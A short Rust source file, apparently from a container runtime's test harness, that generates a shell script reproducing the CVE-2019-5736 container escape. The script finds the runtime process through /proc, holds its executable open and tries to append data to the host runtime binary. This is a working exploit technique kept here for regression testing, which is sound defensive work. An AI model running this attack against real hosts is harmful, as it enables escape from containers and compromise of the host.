//! Workloads that attack the runtime from inside the container.

/// The CVE-2019-5736 attacker: find the process whose command line has `marker` (the runtime's
/// binary, run by the kernel as the interpreter of `#!/proc/self/exe`, blocked opening a FIFO
/// as its --log), open its /proc/PID/exe, let it go, wait until it exited (so the file is no
/// longer busy), then try to append to the binary through that fd.
pub fn attacker_script(marker: &str, fifo: &str, result: &str) -> String {
    format!(
        r#"#!/bin/sh
end=$(( $(date +%s) + 12 )); pid=
while [ -z "$pid" ] && [ $(date +%s) -lt $end ]; do
  for p in /proc/[0-9]*; do
    case "$( (tr '\0' ' ' < $p/cmdline) 2>/dev/null)" in *"{marker}"*) pid=${{p#/proc/}};; esac
  done
  sleep 0.1
done
[ -n "$pid" ] || {{ echo NOPROC DONE >> {result}; exec sleep 1000; }}
if (true < /proc/$pid/exe) 2>/dev/null; then exec 3< /proc/$pid/exe; echo GOT-FD >> {result}; else echo NO-FD >> {result}; fi
cat {fifo} > /dev/null
while [ -e /proc/$pid ]; do sleep 0.05; done
sleep 0.3
if [ -e /proc/self/fd/3 ] && (echo PWNED >> /proc/self/fd/3) 2>/dev/null; then echo WROTE >> {result}; else echo WRITE-FAILED >> {result}; fi
echo DONE >> {result}
exec sleep 1000
"#
    )
}
